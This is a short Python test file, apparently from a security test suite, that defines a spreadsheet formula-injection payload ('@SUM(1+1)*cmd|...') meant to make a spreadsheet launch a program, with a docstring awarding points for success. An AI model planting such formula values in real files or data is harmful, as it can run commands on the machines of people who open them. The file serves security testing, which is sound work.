"""Wish: a spreadsheet starts the program in my name.

Then: correct, 3 points.
Says: @SUM(1+1)*cmd|&#39; -C calc&#39;!A0
"""

from tests.attacks.tiny import notebook

NAME = "@SUM(1+1)*cmd|' -C calc'!A0"


def submit(folder):
    (folder / "tiny.ipynb").write_text(notebook())
